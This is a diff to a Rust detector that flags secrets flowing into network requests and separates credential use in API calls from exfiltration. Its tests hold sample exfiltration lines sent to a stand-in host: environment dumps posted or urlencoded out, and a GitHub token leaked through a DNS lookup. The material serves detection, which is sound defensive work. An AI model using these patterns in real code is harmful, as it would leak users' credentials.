@@ -59,15 +59,26 @@ re!(
     r#"(?i)\b(curl|wget|iwr|Invoke-WebRequest)\b[^\n]*?(\s-o\s+|\s-O\s+|--output\s+|--output-document[= ]|-OutFile\s+|>\s*)['"]?([\w./~${}-]+)"#
 );
 
+re!(
+    CREDENTIAL_PARAM,
+    r"(?i)[?&](key|api_?key|apikey|secret|token|access_token|client_secret|auth)="
+);
+
+/// Whether a line places a secret where a request carries its credential.
+fn as_credential(line: &str) -> bool {
+    AS_CREDENTIAL.is_match(line) || CREDENTIAL_PARAM.is_match(line)
+}
+
 /// Where a secret is read, and what it is.
 fn source_of(line: &str) -> Option<&'static str> {
     if ENVIRONMENT.is_match(line) {
         Some("the whole environment")
     } else if SECRET_FILE.is_match(line) {
         Some("a credential file")
-    } else if SECRET_VAR.find_iter(line).count() >= 2 {
-        // One secret-named variable is the key an API call carries; several gathered together are a collection.
-        Some("several secret environment variables")
+    } else if SECRET_VAR.is_match(line) && !as_credential(line) {
+        // A secret-named variable put where a request carries its credential (a header, `auth=`, `?key=`) is how
+        // an API is called; anywhere else in what is sent (a body, a host name, a path) it leaves.
+        Some("a secret environment variable")
     } else if CLIPBOARD.is_match(line) {
         Some("the clipboard")
     } else if AGENT_MEMORY.is_match(line) {
@@ -79,12 +90,13 @@ fn source_of(line: &str) -> Option<&'static str> {
 
 /// A flow from a secret to a network send: (source line, what, sink line).
 pub(super) fn secret_flows(code: &str, first_line: u32) -> Vec<(u32, &'static str, u32)> {
-    let lines: Vec<&str> = code.lines().collect();
+    let statements = statements(code);
+    let lines: Vec<&str> = statements.iter().map(|(_, s)| s.as_str()).collect();
     let mut tainted: Vec<(String, u32, &'static str)> = Vec::new();
     let mut out = Vec::new();
     let mut sinks_seen = BTreeSet::new();
     for (i, line) in lines.iter().enumerate() {
-        let n = first_line + u32::try_from(i).unwrap_or(0);
+        let n = first_line + statements[i].0;
         let here = source_of(line);
         let from_var = tainted
             .iter()
@@ -96,9 +108,8 @@ pub(super) fn secret_flows(code: &str, first_line: u32) -> Vec<(u32, &'static st
         };
         if SEND.is_match(line) {
             // Only a secret sent as a request's credential (and nothing else of the secret's) is an API call.
-            let as_credential =
-                AS_CREDENTIAL.is_match(line) && what == "several secret environment variables";
-            if !as_credential && sinks_seen.insert(n) {
+            let credential = what == "a secret environment variable" && as_credential(line);
+            if !credential && sinks_seen.insert(n) {
                 out.push((source_line, what, n));
             }
         }
@@ -108,6 +119,38 @@ pub(super) fn secret_flows(code: &str, first_line: u32) -> Vec<(u32, &'static st
                 tainted.push((var, source_line, what));
             }
         }
+    }
+    out
+}
+
+/// The code's statements, a call or literal that spans lines joined into one, each with the offset of its first
+/// line.
+fn statements(code: &str) -> Vec<(u32, String)> {
+    let mut out = Vec::new();
+    let mut current = String::new();
+    let mut start = 0;
+    let mut depth: i32 = 0;
+    for (i, line) in code.lines().enumerate() {
+        if current.is_empty() {
+            start = u32::try_from(i).unwrap_or(0);
+        } else {
+            current.push(' ');
+        }
+        current.push_str(line.trim());
+        for c in line.chars() {
+            match c {
+                '(' | '[' | '{' => depth += 1,
+                ')' | ']' | '}' => depth -= 1,
+                _ => {}
+            }
+        }
+        if depth <= 0 || current.len() > 4000 {
+            out.push((start, std::mem::take(&mut current)));
+            depth = 0;
+        }
+    }
+    if !current.is_empty() {
+        out.push((start, current));
     }
     out
 }
@@ -189,12 +232,21 @@ mod tests {
         assert_eq!(secret_flows(js, 1), vec![(1, "the whole environment", 3)]);
         let keys = "keys = {k: v for k, v in os.environ.items() if 'KEY' in k}\nurllib.request.urlopen('https://x.invalid/v?' + urlencode(keys))\n";
         assert_eq!(secret_flows(keys, 1), vec![(1, "the whole environment", 2)]);
+        let multi = "env_data = dict(os.environ)\nrequests.post(\n    \"https://x.invalid/c\",\n    json={\"t\": env_data}\n)\n";
+        assert_eq!(secret_flows(multi, 1), vec![(1, "the whole environment", 2)]);
     }
 
     #[test]
     fn a_key_sent_as_the_credential_of_an_api_call_is_not_a_flow() {
         let py = "key = os.environ['WEATHER_API_KEY']\nr = requests.get(url, headers={'Authorization': f'Bearer {key}'})\n";
-        assert!(secret_flows(py, 1).is_empty());
+        assert_eq!(secret_flows(py, 1), vec![]);
+        let js = "const url = `https://www.google.com/recaptcha/api/siteverify?secret=${SECRET_KEY}&response=${t}`;\nconst r = await fetch(url);\n";
+        assert!(secret_flows(js, 1).is_empty());
+        let dns = "secret = os.environ[\"GITHUB_TOKEN\"]\nencoded = base64.b32encode(secret.encode()).decode()\nos.popen(f\"dig {encoded}.x.invalid\")\n";
+        assert_eq!(
+            secret_flows(dns, 1),
+            vec![(1, "a secret environment variable", 3)]
+        );
         let sh = "curl -H \"Authorization: Bearer $GITHUB_TOKEN\" https://api.github.com/user\n";
         assert!(secret_flows(sh, 1).is_empty());
         let plain = "import os\nprint(os.environ.get('HOME'))\nrequests.get('https://api.x.invalid')\n";
